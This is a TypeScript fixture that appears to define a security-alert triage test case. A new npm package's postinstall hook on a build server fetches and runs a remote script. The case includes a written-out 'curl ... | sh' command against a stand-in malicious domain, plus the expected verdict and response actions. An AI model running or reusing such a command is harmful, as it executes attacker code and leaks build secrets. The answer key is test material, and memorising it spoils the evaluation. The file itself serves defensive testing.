// A dependency with a script, and what the script did.
import { alert, connected, ran } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const packageThenBuildServer: TellSituation = (setting) => {
  const server = setting.machine('srv-build-02')
  const at = setting.ago({ minutes: 27 })
  const domain = 'npm-telemetry-cdn.dev'
  const command = `sh -c curl -s https://${domain}/i.sh | sh`

  return {
    id: 'package-then-build-server',
    group: 'chains',
    title: 'A new package, then calls from the build server',
    alerts: [
      alert(setting, at - 120_000, 'siem', 'New dependency with install script', {
        object_kind: 'pipeline',
        project: 'firmware/flash-ui',
        dependency: 'color-parse-fast@2.0.9',
        hook: 'postinstall',
        runner: server.host,
        time: setting.iso(at - 120_000),
      }),
      alert(setting, at, 'siem', 'Outbound connection from build container', {
        rule: 'Unexpected outbound connection destination',
        priority: 'Notice',
        hostname: server.host,
        output_fields: {
          'proc.cmdline': command,
          'fd.name': '10.20.1.223:50110->185.199.61.14:443',
          'fd.sip.name': domain,
          'container.name': 'runner-flash-ui',
          'user.name': 'gitlab-runner',
        },
        time: setting.iso(at),
      }),
    ],
    facts: {
      intelligence: [
        setting.risk('domain', domain, 91, [
          ['Current C&C Server', 4, 'Receives secrets of build servers, seen today.'],
          ['Recently Linked to Malware', 3, 'Bad packages in a public index.'],
        ]),
      ],
      telemetry: [
        ran(server, at - 1000, 'sh', command, { AccountName: 'gitlab-runner', InitiatingProcessFileName: 'node' }),
        connected(server, at, '185.199.61.14', {
          RemoteUrl: domain,
          InitiatingProcessFileName: 'curl',
          InitiatingProcessAccountName: 'gitlab-runner',
        }),
      ],
    },
    expected: {
      verdict: 'malicious',
      severities: ['high', 'critical'],
      proposals: [
        { action: 'isolate-machine', target: server.host },
        { action: 'block-indicator', target: domain },
      ],
      forbidden: [{ action: 'block-indicator', target: '10.20.1.223' }],
    },
    because:
      'The script of a new package loaded and ran code from a domain that receives secrets of build servers today, and the endpoint platform saw it on this server.',
  }
}
